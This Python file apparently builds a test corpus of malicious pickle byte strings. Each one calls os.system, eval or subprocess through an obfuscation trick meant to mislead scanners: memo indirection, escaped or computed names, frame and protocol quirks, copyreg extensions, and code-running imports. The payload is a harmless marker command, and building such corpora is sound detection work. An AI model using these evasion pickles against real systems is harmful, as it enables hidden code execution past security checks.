"""Ways to hide what a pickle calls: the same call of os.system (or builtins.eval), written so that a reader is misled.

Each entry is (id, bytes, options): whole pickles, made by opcode.
"""
import base64
import struct
import zlib

from assemble import Call, Raw, assemble, at, frame, text, value

CMD = "touch executed"
CODE = b"open('executed','w').close()"
ARG = b"Vtouch executed\n"
ARGS = b"(" + ARG + b"t"
BARGS = b"X\x0e\x00\x00\x00touch executed\x85"
SYSTEM = b"cos\nsystem\n"
RUN = ARGS + b"R"
SHORT_OS, SHORT_SYSTEM = b"\x8c\x02os", b"\x8c\x06system"
P4 = b"\x80\x04"


def memo():
    yield "memo/names-text", b"\x80\x04Vos\np0\n0Vsystem\np1\n0g0\ng1\n\x93" + RUN + b"."
    yield "memo/names-binary", P4 + SHORT_OS + b"q\x00" + SHORT_SYSTEM + b"q\x01\x30\x30h\x00h\x01\x93" + RUN + b"."
    yield "memo/names-memoize", P4 + SHORT_OS + b"\x94" + SHORT_SYSTEM + b"\x9400h\x00h\x01\x93" + RUN + b"."
    names = SHORT_OS + b"r\x00\x01\x00\x00" + SHORT_SYSTEM + b"r\xff\xff\x00\x00"
    yield "memo/names-long", P4 + names + b"00j\x00\x01\x00\x00j\xff\xff\x00\x00\x93" + RUN + b"."
    names = b"\x8c\x04mathq\x00" + SHORT_OS + b"q\x0000" + SHORT_SYSTEM + b"q\x01"
    yield "memo/overwritten", P4 + names + b"0h\x00h\x01\x93" + RUN + b"."
    yield "memo/overwritten-callable", b"cbuiltins\nlen\nq\x00" + SYSTEM + b"q\x0000h\x00" + RUN + b"."
    yield "memo/odd-index", SYSTEM + b"p7\n0g7\n" + RUN + b"."
    yield "memo/far-index", SYSTEM + b"r\x40\x42\x0f\x000j\x40\x42\x0f\x00" + RUN + b"."
    yield "memo/leading-zero", SYSTEM + b"p010\n0g10\n" + RUN + b"."
    yield "memo/text-put-binary-get", SYSTEM + b"p5\n0h\x05" + RUN + b"."
    yield "memo/binary-put-text-get", SYSTEM + b"q\x050g5\n" + RUN + b"."
    yield "memo/put-plus-sign", SYSTEM + b"p+3\n0g3\n" + RUN + b"."
    yield "memo/put-spaces", SYSTEM + b"p 3\n0g3 \n" + RUN + b"."
    yield "memo/py2-word-key", SYSTEM + b"pname\n0gname\n" + RUN + b"."
    yield "memo/py2-two-memos", b"cbuiltins\nlen\nq\x000" + b"c__builtin__\neval\np0\n0g0\n(S" + repr(
        CODE.decode()
    ).encode() + b"\ntR."
    yield "memo/memoize-after-hole", P4 + b"Nq\x050" + SYSTEM + b"\x940h\x01" + RUN + b"."
    yield "memo/memoize-counts-slots", P4 + b"Nq\x05q\x06q\x070" + SYSTEM + b"\x940h\x03" + RUN + b"."
    yield "memo/memoize-overwrites", P4 + b"Nq\x010" + SYSTEM + b"\x940h\x01" + RUN + b"."
    yield "memo/callable-in-list", b"(l" + SYSTEM + b"ap0\n0g0\n0" + SYSTEM + RUN + b"."
    yield "memo/argument-through-memo", SYSTEM + b"(" + ARG + b"p1\n0g1\ntR."
    yield "memo/result-reused", SYSTEM + RUN + b"p0\n0g0\n."
    yield "memo/get-many", SYSTEM + b"p0\n" + b"0g0\n" * 40 + RUN + b"."
    yield "memo/thousand-entries", P4 + b"".join(
        b"K\x01\x940" for _ in range(300)
    ) + SYSTEM + b"\x940j\x2c\x01\x00\x00" + RUN + b"."
    yield "memo/tuple-with-callable", b"(" + SYSTEM + ARG + b"tp0\n0" + SYSTEM + RUN + b"."


def stack():
    yield "stack/dup-name", P4 + SHORT_OS + b"2" + b"0" + SHORT_SYSTEM + b"\x93" + RUN + b"."
    yield "stack/dup-callable", SYSTEM + b"20" + RUN + b"."
    yield "stack/dup-callable-called-twice", SYSTEM + b"2" + RUN + b"0" + RUN + b"."
    yield "stack/dup-args", SYSTEM + ARGS + b"2" + b"0R."
    yield "stack/pop-decoy", b"cbuiltins\nlen\n0" + SYSTEM + RUN + b"."
    yield "stack/pop-mark", b"(" + b"cbuiltins\nlen\nI1\n1" + SYSTEM + RUN + b"."
    yield "stack/pop-takes-mark", SYSTEM + b"(0" + RUN + b"."
    yield "stack/many-marks", b"(((" + b"111" + SYSTEM + RUN + b"."
    yield "stack/values-below", b"I1\nI2\nI3\n" + SYSTEM + RUN + b"."
    yield "stack/under-mark", SYSTEM + b"((" + ARG + b"tt0" + RUN + b"."
    yield "stack/tuple1", SYSTEM + BARGS + b"R."
    yield "stack/list-as-args-fails-after", SYSTEM + RUN + b"0" + SYSTEM + b"(lR."
    yield "stack/dict-holds-callable", b"(d" + b"Va\n" + SYSTEM + b"s0" + SYSTEM + RUN + b"."
    yield "stack/empty-tuple-append", SYSTEM + b"(" + ARG + b"tR0."
    yield "stack/pop-result", SYSTEM + RUN + b"0N."
    yield "stack/result-in-list", b"(l" + SYSTEM + RUN + b"a."
    yield "stack/result-as-key", b"(d" + SYSTEM + RUN + b"Ns."
    yield "stack/in-tuple", b"(I1\n" + SYSTEM + RUN + b"t."
    yield "stack/in-frozenset", P4 + b"(" + SYSTEM + RUN + b"\x91."
    yield "stack/in-set", P4 + b"\x8f(" + SYSTEM + RUN + b"\x90."


def opcodes():
    yield "inst/plain", b"(" + ARG + b"ios\nsystem\n."
    yield "inst/under-values", b"I1\n(" + ARG + b"ios\nsystem\n."
    yield "inst/eval", b"(S" + repr(CODE.decode()).encode() + b"\ni__builtin__\neval\n."
    yield "inst/py3-eval", b"(V" + CODE + b"\nibuiltins\neval\n."
    yield "inst/popen", b"((lVtouch\naVexecuted\naisubprocess\nPopen\n."
    yield "obj/plain", b"(" + SYSTEM + ARG + b"o."
    yield "obj/from-memo", SYSTEM + b"p0\n0(g0\n" + ARG + b"o."
    yield "obj/py2-eval", b"(c__builtin__\neval\nS" + repr(CODE.decode()).encode() + b"\no."
    yield "obj/popen", b"(csubprocess\nPopen\n(lVtouch\naVexecuted\nao."
    yield "obj/stack-global", P4 + b"(" + SHORT_OS + SHORT_SYSTEM + b"\x93" + ARG + b"o."
    yield "newobj/popen-raw", b"\x80\x02csubprocess\nPopen\n(lVtouch\naVexecuted\na\x85\x81."
    yield "newobj/ex-raw", P4 + b"csubprocess\nPopen\n)}Vargs\n(lVtouch\naVexecuted\nas\x92."
    yield "newobj/function-refused-after-call", SYSTEM + RUN + b"0" + SYSTEM + b")\x81."
    for kind, code in (("EXT1", b"\x82\xf0"), ("EXT2", b"\x83\xf0\x00"), ("EXT4", b"\x84\xf0\x00\x00\x00")):
        for number, names in (("", b"Vos\nVsystem\nI240\n"), ("-posix", b"Vposix\nVsystem\nI240\n")):
            data = b"\x80\x02ccopyreg\nadd_extension\n(" + names + b"tR0" + code + RUN + b"."
            yield "ext/registered-in-the-pickle/" + kind + number, data
        names = b"S'os'\nS'system'\nI240\n"
        yield "ext/py2-name/" + kind, b"\x80\x02ccopy_reg\nadd_extension\n(" + names + b"tR0" + code + RUN + b"."
    written = b"(I240\n(Vos\nVsystem\ntu0\x82\xf0"
    yield "ext/registry-written", b"\x80\x02ccopyreg\n_inverted_registry\n" + written + RUN + b"."
    yield "ext/registry-set-one", b"\x80\x02ccopyreg\n_inverted_registry\nI240\n(Vos\nVsystem\nts0\x82\xf0" + RUN + b"."
    yield "ext/cache-written", b"\x80\x02ccopyreg\n_extension_cache\nI240\n" + SYSTEM + b"s0\x82\xf0" + RUN + b"."
    yield "persistent/after-call-text", SYSTEM + RUN + b"0P5\n."
    yield "persistent/after-call-binary", SYSTEM + RUN + b"0N" + b"Q."
    yield "buffer/next-after-call", b"\x80\x05" + SYSTEM + RUN + b"0\x97."
    yield "buffer/bytearray8", b"\x80\x05" + SYSTEM + b"0cbuiltins\neval\n\x96" + struct.pack(
        "<Q", len(CODE)
    ) + CODE + b"\x85R."
    yield "buffer/readonly", b"\x80\x05cbuiltins\neval\n\x96" + struct.pack("<Q", len(CODE)) + CODE + b"\x98\x85R."
    yield "bytes/code-as-bytes", P4 + b"cbuiltins\nexec\nC" + bytes([len(CODE)]) + CODE + b"\x85R."
    yield "bytes/code-binbytes8", P4 + b"cbuiltins\nexec\n\x8e" + struct.pack("<Q", len(CODE)) + CODE + b"\x85R."
    yield "bytes/name-binunicode8", P4 + b"\x8d" + struct.pack("<Q", 2) + b"os\x8d" + struct.pack(
        "<Q", 6
    ) + b"system\x93" + RUN + b"."
    yield "bytes/name-binstring", P4 + b"U\x02osU\x06system\x93" + RUN + b"."
    yield "bytes/name-string", P4 + b"S'os'\nS'system'\n\x93" + RUN + b"."
    yield "bytes/name-longer-string", P4 + b"T\x02\x00\x00\x00osT\x06\x00\x00\x00system\x93" + RUN + b"."


def spelling():
    escaped = {
        "hex": b"S'\\x74ouch \\x65xecuted'\n",
        "octal": b"S'\\164ouch executed'\n",
        "octal-short": b"S'touch\\40executed'\n",
        "double-quotes": b'S"touch executed"\n',
        "continued": b"S'touch\\x20executed'\n",
        "spaces-behind": b"S'touch executed' \t \n",
        "unicode": b"V\\u0074ouch \\u0065xecuted\n",
        "long-unicode": b"V\\U00000074ouch executed\n",
        "unknown-escape": b"S'touch executed;\\q'\n",
        "tab": b"S'touch\\texecuted'\n",
        "nested-quote": b"S'touch \\'executed\\''\n",
        "crlf": b"S'touch executed;\\r'\n",
        "shell-comment": b"V" + b"touch executed # don't\n",
    }
    for name, argument in escaped.items():
        yield "escape/argument-" + name, SYSTEM + b"(" + argument + b"tR."
    names = {
        "string-hex": b"S'\\x6fs'\nS'\\x73ystem'\n",
        "string-octal": b"S'\\157s'\nS'syste\\155'\n",
        "unicode": b"V\\u006fs\nVsys\\u0074em\n",
        "long-unicode": b"V\\U0000006fs\nVsystem\n",
        "mixed": b"S'\\x6f\\x73'\nV\\u0073ystem\n",
        "quotes": b"S\"os\"\nS'system'\n",
    }
    for name, pair in names.items():
        yield "escape/name-" + name, P4 + pair + b"\x93" + RUN + b"."
    integers = {
        "hex": b"I0x1\n",
        "hex-upper": b"I0X1\n",
        "octal": b"I01\n",
        "octal-2": b"I001\n",
        "plus": b"I+1\n",
        "spaces": b"I  1\n",
        "nul": b"I1\x00junk\n",
        "minus-zero": b"I-0\n",
        "long": b"L1L\n",
        "long-no-l": b"L1\n",
        "long-hex": b"L0x1L\n",
        "bool": b"I01\n",
        "underscore": b"L1_0L\n",
        "binary": b"L0b1L\n",
        "octal-modern": b"L0o1L\n",
        "long1": b"\x8a\x01\x01",
        "long1-padded": b"\x8a\x03\x01\x00\x00",
        "long4": b"\x8b\x01\x00\x00\x00\x01",
        "long1-empty": b"\x8a\x00",
        "trailing-space": b"I1 \n",
        "float": b"F1\n",
        "float-exp": b"F1e0\n",
        "float-nan": b"Fnan\n",
        "float-hexless": b"F.5\n",
        "float-inf": b"Finf\n",
        "float-underscore": b"F1_0.0\n",
    }
    for name, number in integers.items():
        yield "number/" + name, number + b"0" + SYSTEM + RUN + b"."
    for name, number in integers.items():
        if not name.startswith("float"):
            yield "number/as-memo-decoy-" + name, b"(l" + number + b"a0" + SYSTEM + b"p1\n0g1\n" + RUN + b"."


def computed_names():
    def stacked(module, name):
        return P4 + b"".join((module, name)) + b"\x93" + RUN + b"."

    make = lambda expression: value(expression, 4)  # noqa: E731
    b64 = base64.b64encode
    # a bound method of text: getattr('', 'join')(['sys', 'tem'])
    join = make(Call(Call("builtins.getattr", "", "join"), ["sys", "tem"]))
    strings = {
        "join": join,
        "join-dotted": make(Call(at("builtins.str.join", 1), "", ["sys", "tem"])),
        "reversed-join": make(Call(at("builtins.str.join", 1), "", Call("builtins.reversed", "metsys"))),
        "lower": make(Call(at("builtins.str.lower", 1), "SYSTEM")),
        "replace": make(Call(at("builtins.str.replace", 1), "sysxtem", "x", "")),
        "format": make(Call(at("builtins.str.format", 1), "sys{}", "tem")),
        "strip": make(Call(at("builtins.str.strip", 1), " system ")),
        "decode": make(Call(at("builtins.bytes.decode", 1), b"system")),
        "decode-getattr": make(Call(Call("builtins.getattr", b"system", "decode"))),
        "str-of-bytes": make(Call("builtins.str", b"system", "ascii")),
        "codecs-decode": make(Call("codecs.decode", b"system", "ascii")),
        "_codecs-decode": make(Call("_codecs.decode", b"system", "utf-8")),
        "_codecs-ascii_decode": make(Call("operator.getitem", Call("_codecs.ascii_decode", b"system"), 0)),
        "rot13": make(Call("codecs.encode", "flfgrz", "rot13")),
        "hex": make(Call(at("builtins.bytes.decode", 1), Call("binascii.unhexlify", "73797374656d"))),
        "base64": make(Call(at("builtins.bytes.decode", 1), Call("base64.b64decode", b64(b"system")))),
        "concat": make(Call("operator.add", "sys", "tem")),
        "concat_": make(Call("_operator.concat", "sys", "tem")),
        "mul": make(Call("operator.mul", "system", 1)),
        "mod": make(Call("operator.mod", "sys%s", ("tem",))),
        "getitem": make(Call("operator.getitem", "metsys", Call("builtins.slice", None, None, -1))),
        "getitem-list": make(Call("operator.getitem", ["x", "system"], 1)),
        "chr-join": make(
            Call(
                at("builtins.str.join", 1), "", Call("builtins.map", at("builtins.chr"), [115, 121, 115, 116, 101, 109])
            )
        ),
        "str": make(Call("builtins.str", "system")),
        "str-newobj": make(Call("builtins.str", "system", by="newobj")),
        "format-builtin": make(Call("builtins.format", "system", "")),
        "max": make(Call("builtins.max", ["system", "a"])),
        "next-iter": make(Call("builtins.next", Call("builtins.iter", ["system"]))),
        "ascii-slice": make(Call("sys.intern", "system")),
        "quopri": make(Call(at("builtins.bytes.decode", 1), Call("quopri.decodestring", b"system"))),
        "url": make(Call("urllib.parse.unquote", "%73ystem")),
        "html": make(Call("html.unescape", "&#115;ystem")),
        "json": make(Call("json.loads", '"system"')),
        "literal_eval": make(Call("ast.literal_eval", "'system'")),
        "zlib": make(Call(at("builtins.bytes.decode", 1), Call("zlib.decompress", zlib.compress(b"system")))),
        "re-sub": make(Call("re.sub", "x", "", "sxystem")),
        "str-from-memo": text("system", 4) + b"q\x5000h\x50"[:3],
        "global-string": b"cstring\n__name__\n0" + SHORT_SYSTEM,
        "attribute-value": make(Call("types.SimpleNamespace")) + b"0" + SHORT_SYSTEM,
        "reconstructor": make(Call("copyreg._reconstructor", at("builtins.str"), at("builtins.str"), "system")),
        "textwrap": make(Call("textwrap.dedent", " system")),
        "string-capwords": make(Call("os.path.basename", "x/system")),
        "posixpath": make(Call("posixpath.basename", "x/system")),
        "shlex": make(Call("shlex.quote", "system")),
        "enum-name": make(Call("operator.itemgetter", 0)) + b"0" + SHORT_SYSTEM,
        "reduce-add": make(Call("functools.reduce", at("operator.add"), ["sys", "tem"])),
    }
    for name, made in strings.items():
        yield "name-by-call/" + name, stacked(SHORT_OS, made)
    for name in ("join-dotted", "decode", "rot13", "concat", "str-newobj", "base64"):
        module = b"cbuiltins\ngetattr\ncimportlib\nimport_module\nVos\n\x85R"
        yield "name-by-call/getattr-" + name, P4 + module + strings[name] + b"\x86R" + RUN + b"."
    yield "name-by-call/from-global-text", P4 + b"cos\n__name__\n" + SHORT_SYSTEM + b"\x93" + RUN + b"."
    yield "name-by-call/from-global-path-name", P4 + b"cposix\n__name__\n" + SHORT_SYSTEM + b"\x93" + RUN + b"."
    yield "name-by-call/os-name", P4 + b"cos\nname\n" + SHORT_SYSTEM + b"\x93" + RUN + b"."
    yield "name-by-call/function-name", P4 + SHORT_OS + b"cos\nsystem.__name__\n\x93" + RUN + b"."
    yield "name-by-call/str-subclass", P4 + make(
        Call("builtins.str", "os", by="newobj")
    ) + SHORT_SYSTEM + b"\x93" + RUN + b"."


def framing():
    body = SYSTEM + RUN + b"."
    made = P4 + b"\x95"
    for name, length in (
        ("short", 3),
        ("zero", 0),
        ("one", 1),
        ("exact", len(body)),
        ("long-by-one", len(body) + 1),
        ("half", len(body) // 2),
        ("without-stop", len(body) - 1),
        ("huge", 1 << 40),
    ):
        yield "frame/" + name, made + struct.pack("<Q", length) + body
    yield "frame/long-padded", made + struct.pack("<Q", len(body) + 8) + body + b"N" * 8
    yield "frame/in-argument", P4 + frame(SYSTEM + b"(") + frame(ARG + b"tR.")
    yield "frame/overlapping", P4 + b"\x95" + struct.pack("<Q", 20) + SYSTEM + b"\x95" + struct.pack(
        "<Q", 4
    ) + RUN + b"." + b"N" * 20
    yield "frame/nested", P4 + frame(frame(body))
    yield "frame/empty-ones", P4 + frame(b"") * 5 + frame(body)
    yield "frame/without-proto", frame(body)
    yield "frame/low-protocol", b"\x80\x02" + frame(body)
    yield "frame/after-call", P4 + SYSTEM + RUN + b"\x95" + struct.pack("<Q", 1 << 30) + b"."
    yield "frame/each-opcode", P4 + b"".join(frame(p) for p in (SYSTEM, b"(", ARG, b"t", b"R", b"."))
    yield "frame/negative", made + b"\xff" * 8 + body
    yield "frame/call-before-lie", P4 + SYSTEM + RUN + b"\x95\xff\xff\xff\xff\xff\xff\xff\x7f."
    yield "proto/mid-stream-4", b"\x80\x02" + P4 + SHORT_OS + SHORT_SYSTEM + b"\x93" + RUN + b"."
    yield "proto/mid-name-map-off", b"\x80\x02\x80\x04cbuiltins\neval\n(V" + CODE + b"\ntR."
    yield "proto/mid-name-map-on", b"\x80\x04\x80\x02c__builtin__\neval\n(V" + CODE + b"\ntR."
    yield "proto/commands-mapped", b"\x80\x02ccommands\ngetoutput\n" + RUN + b"."
    yield "proto/commands-mapped-0", b"ccommands\ngetoutput\n" + RUN + b"."
    yield "proto/mapped-after-4", b"\x80\x04ccopyreg\n__newobj__\n0\x80\x00ccommands\ngetoutput\n" + RUN + b"."
    yield "proto/dotted-on", b"\x80\x02\x80\x04cshutil\nos.system\n" + RUN + b"."
    yield "proto/dotted-by-proto-5", b"\x80\x05cshutil\nos.system\n" + RUN + b"."
    yield "proto/dotted-then-low", b"\x80\x04cshutil\nos.system\n\x80\x00" + RUN + b"."
    yield "proto/twice", b"\x80\x02\x80\x02" + body
    yield "proto/many", b"\x80\x02" * 30 + body
    yield "proto/one", b"\x80\x01" + body
    yield "proto/zero", b"\x80\x00" + body
    yield "proto/late", SYSTEM + b"\x80\x04" + RUN + b"."
    yield "proto/too-high-after", SYSTEM + RUN + b"\x80\x09."
    yield "proto/reversed-map-py2", b"\x80\x02c__builtin__\napply\n(" + SYSTEM + b"(" + b"S'touch executed'\nttR."
    yield "several/first-only", body + body
    yield "several/harmless-first-pickle", SYSTEM + RUN + b".N."
    yield "after-stop/junk", body + b"\xff\xfe junk"
    yield "after-stop/pickle-of-more", body + b"cbuiltins\nexit\n)R."
    yield "no-stop/after-call", SYSTEM + RUN
    yield "no-stop/unknown-opcode", SYSTEM + RUN + b"\xff"
    yield "no-stop/underflow", SYSTEM + RUN + b"00000."
    yield "no-stop/missing-memo", SYSTEM + RUN + b"g99\n."
    yield "no-stop/bad-global", SYSTEM + RUN + b"cno\nsuch\n."
    yield "no-stop/bad-number", SYSTEM + RUN + b"Inone\n."
    yield "no-stop/cut-string", SYSTEM + RUN + b"X\xff\xff\x00\x00ab"
    yield "no-stop/huge-string", SYSTEM + RUN + b"\x8e" + b"\xff" * 7 + b"\x7f"
    yield "no-stop/negative-length", SYSTEM + RUN + b"T\xff\xff\xff\xffab."
    yield "no-stop/not-callable", SYSTEM + RUN + b")R."
    yield "no-stop/mark-left", b"(" + SYSTEM + RUN + b"."
    yield "no-stop/build-on-result", SYSTEM + RUN + b"}b."
    yield "no-stop/append-to-result", SYSTEM + RUN + b"Na."
    yield "no-stop/setitem-on-result", SYSTEM + RUN + b"NNs."
    yield "no-stop/call-in-proto0-only", ARG + b"0" + SYSTEM + RUN + b"d"
    yield "no-stop/bad-utf8", SYSTEM + RUN + b"X\x01\x00\x00\x00\xff."
    yield "no-stop/bad-escape", SYSTEM + RUN + b"S'\\x1'\n."


def names():
    for alias in ("os", "posix"):
        yield "name/" + alias, b"c" + alias.encode() + b"\nsystem\n" + RUN + b"."
    yield "name/leading-path", assemble(Call("os.path.os.system", CMD), 4)
    yield "name/posixpath", P4 + b"cposixpath\nos.system\n" + RUN + b"."
    yield "name/genericpath", P4 + b"cgenericpath\nos.system\n" + RUN + b"."
    yield "name/deep-module", b"cmultiprocessing.popen_fork\nos.system\n".join((P4, RUN + b"."))
    yield "name/submodule-attr", P4 + b"cos\npath.os.system\n" + RUN + b"."
    yield "name/loop", P4 + b"cos\npath.os.path.os.path.os.system\n" + RUN + b"."
    yield "name/__main__", b"c__main__\nos\n0" + SYSTEM + RUN + b"."
    yield "name/main-dotted", P4 + b"c__main__\noracle.io.open\n(Vnew.txt\nVw\ntR."
    yield "name/package-init", P4 + b"cjson.decoder\nscanner.re.enum.sys.modules.get\n(Vos\ntR0" + SYSTEM + RUN + b"."
    yield "name/spaces-inside", b"cos\nsystem\n" + RUN + b"."
    yield "name/crlf", b"\x80\x02cos\nsystem\n" + RUN + b"."
    yield "name/unicode-escape", P4 + "Vos\nVsystem\n".encode() + b"\x93" + RUN + b"."
    yield "name/decoy-imports", b"".join(b"ccollections\nOrderedDict\n0" for _ in range(20)) + SYSTEM + RUN + b"."
    yield "name/many-safe-calls", b"".join(b"ccollections\nOrderedDict\n)R0" for _ in range(40)) + SYSTEM + RUN + b"."
    yield "name/long-decoy-text", b"V" + b"a" * 9000 + b"\n0" + SYSTEM + RUN + b"."
    yield "name/user-class-first", b"cmarkermod\nrun\n)R0" + SYSTEM + RUN + b"."
    yield "import-acts/user-module", b"cmarkermod\nrun\n.", {"import": True}
    yield "name/user-module-os", P4 + b"cscript\nos.system\n" + RUN + b"."
    yield "import-acts/antigravity", b"cantigravity\nx\n.", {"import": True}
    yield "import-acts/this", b"cthis\ns\n.", {"import": True}
    for module in (
        "idlelib.idle",
        "idlelib.__main__",
        "unittest.__main__",
        "lib2to3.__main__",
        "ensurepip.__main__",
        "pip.__main__",
        "venv.__main__",
        "asyncio.__main__",
        "turtledemo.__main__",
        "sqlite3.__main__",
        "__hello__",
        "test.autotest",
        "zipapp.__main__",
        "json.__main__",
        "compileall",
        "test.regrtest",
        "distutils.command.bdist_wininst",
        "pydoc_data.topics",
        "encodings.mbcs",
        "_pyrepl.__main__",
        "test.__main__",
        "site",
        "sitecustomize",
        "usercustomize",
        "tkinter.__main__",
    ):
        yield "import-acts/" + module, b"c" + module.encode() + b"\nx\n.", {"import": True}


def entries():
    for group in (memo, stack, opcodes, spelling, computed_names, framing, names):
        for each in group():
            yield each[0], Raw(each[1]), each[2] if len(each) > 2 else {}
